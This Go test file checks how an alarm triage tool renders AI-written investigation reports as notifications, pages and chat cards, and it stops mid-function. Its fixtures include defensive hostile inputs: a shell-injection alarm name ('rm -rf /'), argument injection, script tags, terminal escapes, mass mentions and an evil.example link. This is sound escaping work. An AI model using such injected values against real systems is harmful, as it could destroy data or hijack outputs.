package report_test

import (
	"encoding/json"
	"fmt"
	"html"
	"math"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/alarmevent"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/investigation"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/toolcall"
)

// sample returns the record of a complete investigation, as the bucket stores it.
func sample(t testing.TB) *investigation.Record {
	t.Helper()
	text, err := os.ReadFile("../../docs/sample-report/report.json")
	require.NoError(t, err)
	rec := &investigation.Record{}
	require.NoError(t, json.Unmarshal(text, rec))
	return rec
}

var keys = report.Keys{HTML: "reports/2026/01/15/r.html", Text: "reports/2026/01/15/r.txt", JSON: "reports/2026/01/15/r.json"}

func linksOf(rec *investigation.Record) report.Links {
	return report.LinksFor(rec, report.Home{Bucket: "reports-bucket", LogGroup: "/aws/lambda/triage"}, keys)
}

// records returns records of all kinds that the forms must be able to show.
func records(t testing.TB) map[string]*investigation.Record {
	fallback := sample(t)
	fallback.Outcome, fallback.OutcomeWhy = investigation.OutcomeFallback, "AccessDeniedException: no access to the model."
	fallback.Report, fallback.Rounds = investigation.Report{}, nil
	huge := sample(t)
	long := strings.Repeat("The pool of connections is exhausted, and so the orders wait. ", 400)
	huge.Report.Summary, huge.Report.RootCause, huge.Report.Impact = long, long, long
	for range 200 {
		huge.Report.Findings = append(huge.Report.Findings, huge.Report.Findings...)[:min(300, 2*len(huge.Report.Findings))]
		huge.Report.Prevention = append(huge.Report.Prevention, long)
	}
	writing := sample(t)
	writing.Alarm.Name = strings.Repeat("注文エラー🚨", 42)
	writing.Report.Summary, writing.Report.RootCause = strings.Repeat("注文が失敗する。", 3000), strings.Repeat("خطأ في الطلب ", 2000)
	return map[string]*investigation.Record{
		"sample": sample(t), "fallback": fallback, "huge": huge, "another script": writing,
		"empty": {}, "hostile": hostile(t), "no report stored": withoutReport(sample(t)),
	}
}

func withoutReport(rec *investigation.Record) *investigation.Record {
	rec.ReportURI = ""
	return rec
}

// hostile returns a record with hostile text in every prominent field.
func hostile(t testing.TB) *investigation.Record {
	const text = "x\x00\x1b[2J\r\nSubject: owned\u202e\u2028 <!channel> @here <script>alert(1)</script> \xff **bold** `code` [a](https://evil.example)"
	rec := sample(t)
	rec.Alarm.Name, rec.Alarm.Reason, rec.Alarm.Description, rec.Alarm.Region = text, text, text, text
	rec.OutcomeWhy, rec.Model, rec.ID = text, text, text
	rec.Report.Summary, rec.Report.RootCause, rec.Report.Impact, rec.Report.FreeText = text, text, text, text
	rec.Report.Severity, rec.Report.Confidence = text, text
	rec.Report.Actions = []investigation.Action{{Text: text, Command: text}}
	rec.Report.Findings = []investigation.Finding{{Statement: text, Confidence: text, Evidence: []investigation.Citation{{Call: -1, Quote: text, Found: true}}}}
	rec.Report.RuledOut = []investigation.Refuted{
		{Hypothesis: text, Reason: text, Verified: true, Evidence: []investigation.Citation{{Call: -1, Quote: text, Found: true}}}, {Hypothesis: text, Problem: text},
	}
	rec.Report.NotSeen = []string{text}
	rec.Together = []investigation.Related{{Name: text, ARN: text, State: text, Reason: text}}
	rec.Evidence.Seen = []investigation.Observation{{About: text, Topic: text, Text: text, Weight: 90}}
	rec.Evidence.Missing = []string{text}
	rec.Evidence.Changes = append(rec.Evidence.Changes, investigation.Change{Event: text, User: text, Parameters: text, Own: true})
	rec.SeenBefore = []investigation.Past{{ID: text, Cause: text, ReportURI: text}}
	return rec
}

func TestSubject_IsShortASCIIWithTheVerdict(t *testing.T) {
	for name, rec := range records(t) {
		t.Run(name, func(t *testing.T) {
			subject := report.Subject(rec)
			assert.Less(t, len(subject), 100, subject)
			assert.Regexp(t, `^\[[A-Z]+\] [ -~]*: (cause (confirmed|likely|not found)|needs a human)( \([ -~]+\))?$`, subject)
		})
	}
	rec := sample(t)
	rec.Alarm.Name = strings.Repeat("a", 255)
	assert.Regexp(t, `^\[HIGH\] a+\.\.\.: cause confirmed \(123456789012 us-east-1\)$`, report.Subject(rec), "the verdict is never truncated")
}

var (
	markdown = regexp.MustCompile("\\*\\*|^#|```|\\]\\(")
)

func TestNotification_BeginsWithTheVerdictAndDoesNotWrap(t *testing.T) {
	for name, rec := range records(t) {
		t.Run(name, func(t *testing.T) {
			text := report.Notification(rec, linksOf(rec), 200_000)
			verdict, _, _ := strings.Cut(text, "\n")
			assert.Regexp(t, `Cause (confirmed by evidence|likely, not proven|not established)\.|Needs a human`, verdict)
			for _, line := range strings.Split(text, "\n") {
				if strings.HasPrefix(line, "    ") {
					continue // a command
				}
				if name != "hostile" { // its name and reason contain marks, which are shown verbatim
					assert.NotRegexp(t, markdown, line)
				}
			}
			assertClean(t, text)
		})
	}
}

// assertClean fails if text contains anything that a terminal or a mail program interprets.
func assertClean(t *testing.T, text string) {
	t.Helper()
	assert.True(t, utf8.ValidString(text), "not UTF-8")
	bad := strings.IndexFunc(text, func(r rune) bool {
		return unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028'
	})
	assert.Equal(t, -1, bad, "a control character in %q", text[max(0, bad-20):min(len(text), max(0, bad)+20)])
}

func TestNotification_RemovesMarkdown(t *testing.T) {
	rec := sample(t)
	rec.Report.Summary = "## Verdict\nThe **role** lost `dynamodb:GetItem`, see [docs](https://docs.aws.amazon.com/x) and [1].\n- one\n* two\n```sh\naws sts get-caller-identity\n```"
	text := report.Notification(rec, linksOf(rec), 100_000)
	assert.Contains(t, text, "  Verdict\n  The role lost dynamodb:GetItem, see docs (https://docs.aws.amazon.com/x) and [1].")
	assert.Contains(t, text, "\n  - one\n  - two\n▲ Reads AWS. Written by the model, not checked, not run.\n    aws sts get-caller-identity\n")
}

func TestNotification_FitsAnyLimitAndListsOmissions(t *testing.T) {
	for name, rec := range records(t) {
		whole := report.Notification(rec, linksOf(rec), math.MaxInt)
		for _, limit := range []int{0, 10, 500, 3000, 8000, 30_000, 256 << 10} {
			text := report.Notification(rec, linksOf(rec), limit)
			assert.LessOrEqual(t, len(text), limit, name)
			assertClean(t, text)
			if limit >= 8000 && len(whole) > limit {
				assert.Regexp(t, `Shortened in this message|Omitted from this message|\[truncated\]`, text, "%s at %d", name, limit)
				assert.Contains(t, text, "IMMEDIATE ACTIONS", "%s at %d: actions are never dropped", name, limit)
			}
			if len(whole) <= limit {
				assert.Equal(t, whole, text)
			}
		}
	}
	rec := sample(t)
	long := strings.Repeat("A long text. ", 5000)
	rec.Outcome, rec.Report.Summary, rec.Report.RootCause, rec.Report.Impact = investigation.OutcomeFallback, long, long, long
	rec.Fallbacks = slices.Repeat([]investigation.Fallback{{Model: "m", Cause: investigation.CauseRefused, Why: long[:500]}}, 100)
	for _, limit := range []int{8000, 30_000, 100_000} {
		text := report.Notification(rec, linksOf(rec), limit)
		assert.Contains(t, text, "\n■ ABOUT THIS INVESTIGATION\n", "long notes take no room from the other sections")
		assert.True(t, strings.HasSuffix(text, "The stored report is complete.\n"), limit)
	}
}

// unfolded joins the lines of folded commands, as a shell does.
func unfolded(text string) string { return regexp.MustCompile(` \\\n +`).ReplaceAllString(text, " ") }

func TestNotification_FoldsCommandsAsAShellReadsThem(t *testing.T) {
	rec := sample(t)
	command := "aws logs filter-log-events --log-group-name '/aws/lambda/x' --filter-pattern '?ERROR ?Exception' --query 'events[].message' --output text | sort | uniq -c"
	rec.Report.Actions = []investigation.Action{{Text: "Look.", Command: command}}
	text := report.Notification(rec, linksOf(rec), 100_000)
	assert.NotContains(t, text, command)
	assert.Contains(t, unfolded(text), "\n▲ Reads AWS. Written by the model, not checked, not run.\n    "+command+"\n")
}

func TestNotification_FallbackHasManualSteps(t *testing.T) {
	rec := records(t)["fallback"]
	rec.Alarm.Name = "it's; rm -rf /"
	text := unfolded(report.Notification(rec, linksOf(rec), 100_000))
	assert.Contains(t, text, "Needs a human")
	assert.Contains(t, text, "NOTE: AccessDeniedException: no access to the model.")
	assert.Contains(t, text, `aws cloudwatch describe-alarm-history --region us-east-1 --alarm-name 'it'\''s; rm -rf /' --alarm-types MetricAlarm CompositeAlarm --max-records 20`,
		"CloudWatch returns a composite alarm's history only on request")
	assert.Contains(t, text, "Check the health of the resources that the alarm watches", "also those of a composite or log alarm")
	rec.Alarm.Name = "--profile=evil"
	assert.Contains(t, report.Notification(rec, linksOf(rec), 100_000), "--alarm-name='--profile=evil'")
	const logs = "aws logs tail /aws/lambda/order-service --region us-east-1 --since "
	for _, c := range []struct {
		at   time.Time
		want string
	}{{rec.Alarm.Time, logs + "2026-01-15T02:12:00Z --filter-pattern ERROR"}, {time.Time{}, logs + "1h --filter-pattern ERROR"}} {
		rec.Alarm.Time = c.at
		assert.Contains(t, unfolded(report.Notification(rec, linksOf(rec), 100_000)), c.want, "whenever somebody reads the report")
	}
}

func TestNotification_ACauseWithoutASummaryIsAConclusion(t *testing.T) {
	rec := sample(t)
	rec.Report.Summary = ""
	text := unfolded(report.Notification(rec, linksOf(rec), 100_000))
	assert.Contains(t, text, "The model wrote no summary. The alarm went to ALARM.")
	assert.NotContains(t, text, "no conclusion")
}

func TestNotification_ReportsCostIfKnown(t *testing.T) {
	for _, c := range []struct {
		name  string
		usage investigation.Usage
		why   string
		none  bool // no model was asked
		lost  bool // the checkpoint was lost, and no model was asked again
		want  string
	}{
		{"priced", investigation.Usage{ModelCalls: 3, PriceKnown: true, CostUSD: 0.01921}, "", false, false, "Cost: about $0.0192"},
		{"of an earlier invocation", investigation.Usage{ModelCalls: 3, PriceKnown: true, CostUSD: 0.01921}, "", false, true, "Cost: about $0.0192"},
		{"a model without a price", investigation.Usage{ModelCalls: 3}, "", false, false, "Cost: unknown (no price for this model)"},
		{"no answer", investigation.Usage{}, "AccessDeniedException: no access to the model.", false, false, "Cost: unknown (the model never answered)"},
		{"no request", investigation.Usage{}, "", true, false, "Cost: no model was asked"},
		{"no request, in a record of an older version", investigation.Usage{}, "No model was asked: the budget does not allow one request.", false, false, "Cost: no model was asked"},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec := sample(t)
			rec.Usage, rec.OutcomeWhy, rec.NoModelAsked, rec.EvidenceOnly = c.usage, c.why, c.none, c.lost
			if c.lost {
				rec.Lost = &c.usage
			}
			text := report.Notification(rec, linksOf(rec), 100_000)
			assert.Contains(t, text, "\n  "+c.want+"\n")
			assert.Equal(t, c.lost, strings.Contains(text, "Evidence only: the answers of a model are lost."))
			assert.Equal(t, c.lost, strings.Contains(text, "\nNOTE: An earlier attempt asked a model, but the answers are lost.\n"))
		})
	}
}

func TestFindings_EveryFormMarksUnverifiedFindings(t *testing.T) {
	rec := sample(t)
	rec.Report.Findings[0].Verified, rec.Report.Findings[0].Problem = false, "quote not found in the output of tool call 1"
	rec.Report.Downgraded = "the model called the cause confirmed, but nothing supports it"
	text := report.Text(rec, linksOf(rec))
	assert.Contains(t, strings.Join(strings.Fields(text), " "), "UNVERIFIED: quote not found in the output of tool call 1")
	assert.Contains(t, strings.Join(strings.Fields(text), " "), "Doubt: the model called the cause confirmed, but nothing supports it.")
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	assert.Contains(t, string(page), "quote not found in the output of tool call 1")
}

func TestFindings_EveryFormLabelsComputedEvidence(t *testing.T) {
	rec := sample(t)
	finding := &rec.Report.Findings[0]
	rec.Report.Findings = rec.Report.Findings[:1]
	finding.Verified, finding.Confidence, rec.Report.Confidence = true, investigation.Likely, investigation.Likely
	finding.Evidence[0].Found, finding.Evidence[0].Source = true, investigation.SourceComputed
	rec.Report.Downgraded = "the model called the cause confirmed, but its evidence was computed by code"
	for name, text := range map[string]string{
		"notification": report.Notification(rec, linksOf(rec), 1<<20), "text": report.Text(rec, linksOf(rec)),
	} {
		words := strings.Join(strings.Fields(text), " ")
		assert.Contains(t, words, "Cause likely, not proven. Its evidence is computed by code.", name)
		assert.Contains(t, words, "(likely, COMPUTED)", name)
		assert.Contains(t, words, "(computed: it is from code, and AWS's answers do not prove it)", name)
	}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	assert.Contains(t, string(page), `<span class="badge warn">computed</span>`)
	assert.Contains(t, string(page), "(computed: it is from code, and AWS&#39;s answers do not prove it)")
	raw, err := report.Card(rec, linksOf(rec))
	require.NoError(t, err)
	assert.Contains(t, string(raw), "evidence was computed by code")

	finding.Evidence[0].Source = investigation.SourceAWS
	assert.NotContains(t, strings.ToLower(report.Text(rec, linksOf(rec))), "evidence is computed")
	finding.Evidence[0].Source = "" // of an older version
	assert.NotContains(t, report.Text(rec, linksOf(rec)), "COMPUTED")
}

func TestLinksFor_UsesTheConsoleOfThePartition(t *testing.T) {
	for partition, want := range map[string]string{
		"aws":        "https://eu-central-1.console.aws.amazon.com/cloudwatch/home?region=eu-central-1#alarmsV2:alarm/a%2Fb%20%E6%B3%A8%26%23",
		"aws-cn":     "https://cn-north-1.console.amazonaws.cn/cloudwatch/home?region=cn-north-1#alarmsV2:alarm/a%2Fb%20%E6%B3%A8%26%23",
		"aws-us-gov": "https://us-gov-west-1.console.amazonaws-us-gov.com/cloudwatch/home?region=us-gov-west-1#alarmsV2:alarm/a%2Fb%20%E6%B3%A8%26%23",
	} {
		rec := sample(t)
		rec.Alarm.Name, rec.Alarm.Partition = "a/b 注&#", partition
		rec.Alarm.Region = regexp.MustCompile(`^https://([^.]+)`).FindStringSubmatch(want)[1]
		links := linksOf(rec)
		assert.Equal(t, want, links.Alarm)
		assert.Contains(t, links.Report, "/s3/object/reports-bucket?region="+rec.Alarm.Region+"&prefix=reports%2F2026%2F01%2F15%2Fr.html")
		assert.Contains(t, links.Logs, "#logsV2:log-groups/log-group/$252Faws$252Flambda$252Ftriage")
	}
	rec := sample(t)
	rec.Alarm.Partition = "aws-iso-z"
	assert.Empty(t, linksOf(rec), "no link is better than a wrong one")
	rec.Alarm.Partition, rec.Alarm.Region = "aws", "evil.example/x"
	assert.Empty(t, linksOf(rec))
}

// shownCard has the fields of a card that a chat client shows.
type shownCard struct {
	Version, Source, ID string
	Content             struct {
		Title, Description  string
		NextSteps, Keywords []string
	}
	Metadata struct {
		ThreadID, Summary, EventType string
		AdditionalContext            map[string]string
	}
}

func cardOf(t *testing.T, raw []byte, err error) shownCard {
	t.Helper()
	require.NoError(t, err)
	var c shownCard
	require.NoError(t, json.Unmarshal(raw, &c))
	return c
}

func TestCard_FitsChatAndMentionsNobody(t *testing.T) {
	for name, rec := range records(t) {
		t.Run(name, func(t *testing.T) {
			raw, err := report.Card(rec, linksOf(rec))
			c := cardOf(t, raw, err)
			assert.Less(t, len(raw), 250<<10, "SNS accepts no more")
			assert.LessOrEqual(t, utf8.RuneCountInString(c.Content.Description), 2500)
			assert.LessOrEqual(t, utf8.RuneCountInString(c.Content.Title), 250)
			for _, text := range append([]string{c.Content.Title, c.Content.Description, c.Metadata.Summary}, c.Content.NextSteps...) {
				for _, call := range []string{"<!channel>", "@here", "@channel", "<@", "<script"} {
					assert.NotContains(t, text, call)
				}
				assertClean(t, text)
			}
		})
	}
}

func TestCard_NamesTheModel(t *testing.T) {
	rec := sample(t)
	rec.Model = "arn:aws:bedrock:us-east-1:123456789012:inference-profile/us.anthropic.claude-sonnet-5-5-v1:0"
	long := strings.Repeat("word ", 2000)
	rec.Report.Summary, rec.Report.RootCause, rec.Report.Impact = long, long, long
	raw, err := report.Card(rec, linksOf(rec))
	c := cardOf(t, raw, err)
	assert.Contains(t, c.Content.Description, "us.anthropic.claude-sonnet-5-5-v1:0", "even if the card is full")
	assert.LessOrEqual(t, utf8.RuneCountInString(c.Content.Description), 2500)
	assert.Equal(t, rec.Model, c.Metadata.AdditionalContext["model"])
	rec.Model = "*x* https://evil.example " + long
	raw, err = report.Card(rec, linksOf(rec))
	c = cardOf(t, raw, err)
	assert.LessOrEqual(t, utf8.RuneCountInString(c.Content.Description), 2500)
	assertNeutral(t, c.Content.Description, "model", []string{linksOf(rec).Alarm, linksOf(rec).Report})
	rec.Model = ""
	raw, err = report.Card(rec, linksOf(rec))
	assert.NotContains(t, cardOf(t, raw, err).Content.Description, "Model:")
}

// A page that leaves out entries says how many.
func TestHTML_CutListsSaySo(t *testing.T) {
	for name, fill := range map[string]func(*investigation.Record, int){
		"findings": func(rec *investigation.Record, n int) {
			rec.Report.Findings = slices.Repeat([]investigation.Finding{{Statement: "x"}}, n)
		},
		"quotes": func(rec *investigation.Record, n int) {
			rec.Report.Findings = []investigation.Finding{{Statement: "x", Evidence: slices.Repeat([]investigation.Citation{{Call: 1, Quote: "x"}}, n)}}
		},
		"quotes against a cause": func(rec *investigation.Record, n int) {
			rec.Report.RuledOut = []investigation.Refuted{{Hypothesis: "x", Evidence: slices.Repeat([]investigation.Citation{{Call: 1, Quote: "x"}}, n)}}
		},
		"actions": func(rec *investigation.Record, n int) {
			rec.Report.Actions = slices.Repeat([]investigation.Action{{Text: "x"}}, n)
		},
		"earlier investigations": func(rec *investigation.Record, n int) {
			rec.SeenBefore = slices.Repeat([]investigation.Past{{Cause: "x"}}, n)
		},
	} {
		const says = "and 1 more in the JSON report"
		rec := sample(t)
		fill(rec, 30)
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.NotContains(t, string(page), says, name)
		fill(rec, 31)
		page, err = report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.Contains(t, string(page), says, name)
	}
}

func TestCard_SharesAThreadPerAlarm(t *testing.T) {
	first := sample(t)
	raw, err := report.Card(first, linksOf(first))
	one := cardOf(t, raw, err)
	again := sample(t)
	again.ID = "another"
	raw, err = report.Card(again, linksOf(again))
	assert.Equal(t, one.Metadata.ThreadID, cardOf(t, raw, err).Metadata.ThreadID)
	raw, err = recovery(first).Card()
	recovered := cardOf(t, raw, err)
	assert.Equal(t, one.Metadata.ThreadID, recovered.Metadata.ThreadID)
	assert.NotEqual(t, one.ID, recovered.ID)
	again.Alarm.ARN += "-2"
	raw, err = report.Card(again, linksOf(again))
	assert.NotEqual(t, one.Metadata.ThreadID, cardOf(t, raw, err).Metadata.ThreadID)
}

func recovery(rec *investigation.Record) report.Recovery {
	alarm := rec.Alarm
	alarm.State, alarm.Time, alarm.Reason = alarmevent.StateOK, rec.StartedAt.Add(7*time.Minute), "Threshold Crossed: no datapoint was greater."
	return report.Recovery{Alarm: &alarm, Investigation: rec.ID, StartedAt: rec.StartedAt, ReportURI: rec.ReportURI}
}

func TestRecovery_ReportsTimeAndLinks(t *testing.T) {
	r := recovery(sample(t))
	assert.Equal(t, "RECOVERED: order-service-errors (123456789012 us-east-1)", r.Subject())
	text := strings.Join(strings.Fields(r.Text()), " ")
	assert.Contains(t, text, "Account 123456789012, us-east-1: the alarm order-service-errors is OK again since 2026-01-15 03:19:04 UTC, 7 min after its investigation started.")
	assert.Contains(t, text, r.ReportURI)
	assert.Contains(t, text, "console.aws.amazon.com")
	r = recovery(hostile(t))
	assert.Less(t, len(r.Subject()), 100)
	assert.Regexp(t, `^[ -~]+$`, r.Subject())
	assertClean(t, r.Text())
}

func TestRecovery_ReportsThatTheAlarmFiresAgain(t *testing.T) {
	r := recovery(sample(t))
	first, err := r.Card()
	require.NoError(t, err)
	r.Alarm.State, r.FiresAgain = alarmevent.StateAlarm, true
	assert.Equal(t, "FIRES AGAIN: order-service-errors (123456789012 us-east-1)", r.Subject())
	text := strings.Join(strings.Fields(r.Text()), " ")
	assert.Contains(t, text, "the alarm order-service-errors fires again since 2026-01-15 03:19:04 UTC")
	assert.Contains(t, text, "It is not investigated again within its window")
	assert.NotContains(t, text, "is OK again")
	assert.NotContains(t, text, "You are not notified")
	raw, err := r.Card()
	card := cardOf(t, raw, err)
	assert.Contains(t, card.Content.Title, "Fires again: order-service-errors")
	assert.NotEqual(t, cardOf(t, first, nil).ID, card.ID)
	r.IsLast = true
	assert.Contains(t, strings.Join(strings.Fields(r.Text()), " "), "You are not notified of its next recovery within the window.")
	r = recovery(hostile(t))
	r.FiresAgain, r.IsLast = true, true
	assert.Less(t, len(r.Subject()), 100)
	assertClean(t, r.Text())
}

func TestSeenBefore_StatesHowOftenTheAlarmFiredAgain(t *testing.T) {
	for repeats, want := range map[int]string{1: "the alarm fired once more before the next investigation", 7: "the alarm fired 7 more times before the next investigation"} {
		rec := sample(t)
		rec.SeenBefore = []investigation.Past{{Time: rec.Alarm.Time.AddDate(0, 0, -6), Outcome: investigation.OutcomeCompleted, Cause: "x", Repeats: repeats}}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		for name, text := range map[string]string{"text": report.Notification(rec, linksOf(rec), 100_000), "page": string(page)} {
			assert.Contains(t, strings.Join(strings.Fields(text), " "), want, name)
		}
	}
}

func TestSeenBefore_WarnsOfACommandOnce(t *testing.T) {
	rec := sample(t)
	rec.SeenBefore = []investigation.Past{{Time: rec.Alarm.Time, Cause: "Somebody ran aws s3 rm s3://b/x.", Confidence: investigation.Confirmed}}
	assert.Contains(t, report.Text(rec, linksOf(rec)), `confirmed then: "Somebody ran [DELETES OR STOPS] aws s3 rm s3://b/x."`)
}

func TestSeenBefore_IsInNotificationAndPage(t *testing.T) {
	rec := sample(t)
	rec.SeenBefore = []investigation.Past{{Time: rec.Alarm.Time.AddDate(0, 0, -6), Outcome: investigation.OutcomeCompleted, Cause: "The same policy was changed by hand.",
		ReportURI: "s3://reports-bucket/reports/2026/01/09/x.txt"}}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	for name, text := range map[string]string{"text": report.Notification(rec, linksOf(rec), 100_000), "page": string(page)} {
		assert.Contains(t, strings.Join(strings.Fields(text), " "), "The same policy was changed by hand.", name)
		assert.Contains(t, text, "2026-01-09 03:12", name)
	}
}

func TestSeenBefore_StatesWhetherTheCauseWasConfirmed(t *testing.T) {
	rec := sample(t)
	rec.SeenBefore = []investigation.Past{
		{Cause: "A lost grant.", Confidence: investigation.Confirmed}, {Cause: "A full disk.", Confidence: investigation.Likely},
		{Cause: "An old record."}, {Confidence: investigation.Confirmed},
	}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	for name, text := range map[string]string{"text": report.Text(rec, linksOf(rec)), "page": string(page)} {
		for _, want := range []string{`confirmed then: "A lost grant."`, `not verified: "A full disk."`, `not verified: "An old record."`, ": no cause found"} {
			assert.Contains(t, strings.Join(strings.Fields(html.UnescapeString(text)), " "), want, name)
		}
	}
}

func TestHTML_WithoutRoundsSaysWhy(t *testing.T) {
	for want, change := range map[string]func(rec *investigation.Record){
		"No model was asked.": func(rec *investigation.Record) { rec.EvidenceOnly, rec.Usage = true, investigation.Usage{} },
		"No model answered.": func(rec *investigation.Record) { // the first one failed, and so did the last one
			rec.Outcome, rec.Usage, rec.Fallbacks = investigation.OutcomeFallback, investigation.Usage{}, []investigation.Fallback{{Model: "m", Why: "It was denied."}}
		},
		"This report has lost its rounds.": func(*investigation.Record) {}, // it was too large for the table
	} {
		rec := sample(t)
		rec.Rounds = nil
		change(rec)
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		_, end, _ := strings.Cut(string(page), "<h2>The whole investigation</h2>")
		for _, reason := range []string{"No model was asked.", "No model answered.", "This report has lost its rounds."} {
			assert.Equal(t, reason == want, strings.Contains(end, reason), "%s: %s", want, reason)
		}
	}
}

func TestUnconfirmedEvent_IsInEveryForm(t *testing.T) {
	rec := sample(t)
	rec.Alarm.Unconfirmed = "CloudWatch has no alarm of this name in this account and Region"
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	card, err := report.Card(rec, linksOf(rec))
	require.NoError(t, err)
	for name, text := range map[string]string{
		"notification": report.Notification(rec, linksOf(rec), 100_000), "text": report.Text(rec, linksOf(rec)), "page": string(page), "card": string(card),
		"shortest notification": report.Notification(rec, linksOf(rec), 2000),
	} {
		flat := strings.Join(strings.Fields(text), " ")
		assert.Contains(t, flat, "CloudWatch did not confirm this event: CloudWatch has no alarm of this name in this account and Region.", name)
	}
	assert.Contains(t, report.Subject(rec), ": event not confirmed, cause ")
	for _, most := range []int{240 << 10, 1500} {
		event, err := report.Completion(rec, most)
		require.NoError(t, err)
		assert.Contains(t, string(event), `"unconfirmed":"CloudWatch has no alarm of this name in this account and Region"`)
	}
	assert.Contains(t, string(page), `<span class="badge warn">event not confirmed, cause `)
	rec.Alarm.Unconfirmed = ""
	assert.NotContains(t, report.Text(rec, linksOf(rec)), "did not confirm this event")
}

func TestHTML_EscapesEveryText(t *testing.T) {
	for name, rec := range records(t) {
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err, name)
		assert.NotContains(t, string(page), "<script", name)
		assert.Contains(t, string(page), `default-src 'none'`, name)
		assert.Less(t, len(page), 300_000, name)
		assertClean(t, string(page))
	}
}

func TestCharts_AcceptAnyNumbers(t *testing.T) {
	rec := sample(t)
	at := func(values ...float64) []investigation.Point {
		var points []investigation.Point
		for i, v := range values {
			points = append(points, investigation.Point{Time: rec.Alarm.Time.Add(time.Duration(i-len(values)) * time.Minute), Value: v})
		}
		return points
	}
	nan, infinite := math.NaN(), math.Inf(1)
	for name, s := range map[string]investigation.Series{
		"no points": {}, "one point": {Points: at(3)}, "all the same": {Points: at(0, 0, 0)}, "not numbers": {Points: at(nan, infinite, 1, -infinite), Threshold: &nan},
		"greatest numbers": {Points: at(math.MaxFloat64, -math.MaxFloat64)}, "smallest numbers": {Points: at(5e-324, 0)},
		"band": {Points: at(1, 2, 9), Lower: at(0, 1, 2), Upper: at(2, 3, 4)}, "no period": {Period: -5, Points: at(1, 2)},
	} {
		rec.Evidence.Series = []investigation.Series{s}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err, name)
		for _, drawn := range regexp.MustCompile(`(?s)<svg.*?</svg>`).FindAllString(string(page), -1) {
			assert.NotRegexp(t, `NaN|Inf\b`, drawn, name)
		}
		assertClean(t, report.Text(rec, linksOf(rec)))
	}
}

func TestCharts_TheLegendHasNoWindowThatIsNotShown(t *testing.T) {
	rec := sample(t)
	for minutes, want := range map[time.Duration]bool{-1: true, 0: false, 1: false} {
		rec.Evidence.Series = []investigation.Series{{Label: "Errors", Period: 60, Points: []investigation.Point{{Time: rec.Alarm.Time.Add(minutes * time.Minute), Value: 1}}}}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.Equal(t, want, strings.Contains(string(page), `<rect class="window"`), minutes)
		assert.Equal(t, want, strings.Contains(string(page), "Shaded: "), minutes)
	}
}

// Attributes of a contributor and labels of a metric can be texts of log lines, and the page shows the attributes before the result.
func TestForms_LongNamesOfTimeSeriesAreCut(t *testing.T) {
	rec := sample(t)
	long := strings.Repeat("name ", 2000)
	rec.Alarm.Contributor = &alarmevent.Contributor{ID: "c", Attributes: map[string]string{}}
	for i := range 50 {
		rec.Alarm.Contributor.Attributes[fmt.Sprintf("a%d", i)] = long
	}
	rec.Evidence.Series[0].Label = long
	page, err := report.HTML(rec, report.Links{})
	require.NoError(t, err)
	assert.Less(t, strings.Count(string(page), "name "), 500)
	assert.Less(t, strings.Index(string(page), "Executive summary"), strings.Index(string(page), "<h1>")+2000)
	for _, text := range []string{report.Text(rec, report.Links{}), report.Notification(rec, report.Links{}, 258_048)} {
		assert.Contains(t, text, "Triggered by: a0=name name")
		assert.Less(t, strings.Count(text, "name "), 500)
	}
}

// The threshold of an availability alarm is close to 100.
func TestCharts_TheThresholdIsNotRoundedToAnotherNumber(t *testing.T) {
	rec := sample(t)
	for threshold, want := range map[float64]string{99.995: "99.995", 9999.6: "9999.6", 5: "5", 0.5: "0.5", 1.0 / 3: "0.3333", 99.99612345: "99.996", 57.0000000001: "57", 1_073_741_824: "1.074G", 12_000: "12k"} {
		rec.Evidence.Series = []investigation.Series{{Label: "availability", Threshold: &threshold, Points: []investigation.Point{{Time: rec.Alarm.Time, Value: 1}}}}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.Contains(t, string(page), ">threshold "+want+"<")
		assert.Contains(t, string(page), "The threshold is "+want+".")
	}
}

func TestCharts_HaveAtLeastTwoLinesOfTheGrid(t *testing.T) {
	rec := sample(t)
	for _, values := range [][2]float64{{90.02, 90.09}, {90.11, 90.75}, {99.87, 99.94}, {99.97, 100.04}, {-90.75, -90.11}, {0, 1}, {3, 3}} {
		rec.Evidence.Series = []investigation.Series{{Label: "availability", Points: []investigation.Point{
			{Time: rec.Alarm.Time.Add(-time.Minute), Value: values[0]}, {Time: rec.Alarm.Time, Value: values[1]}}}}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.GreaterOrEqual(t, strings.Count(string(page), `<line class="grid"`), 2, values)
	}
}

// A line across periods without data would show values that the metric did not have.
func TestCharts_TheLineIsInterruptedWhereThereIsNoData(t *testing.T) {
	rec := sample(t)
	for name, c := range map[string]struct{ minutes, lines []int }{
		"no gap": {[]int{9, 8, 7, 6}, []int{4}}, "a gap": {[]int{30, 29, 28, 10, 9}, []int{3, 2}}, "one point": {[]int{30, 29, 10}, []int{2, 1}},
	} {
		s := investigation.Series{Label: "heartbeat", Period: 60}
		for _, ago := range c.minutes {
			s.Points = append(s.Points, investigation.Point{Time: rec.Alarm.Time.Add(-time.Duration(ago) * time.Minute), Value: 1})
		}
		rec.Evidence.Series = []investigation.Series{s}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err, name)
		var lines []int
		for _, line := range regexp.MustCompile(`<polyline class="series" points="([^"]*)"`).FindAllStringSubmatch(string(page), -1) {
			lines = append(lines, len(strings.Fields(line[1])))
		}
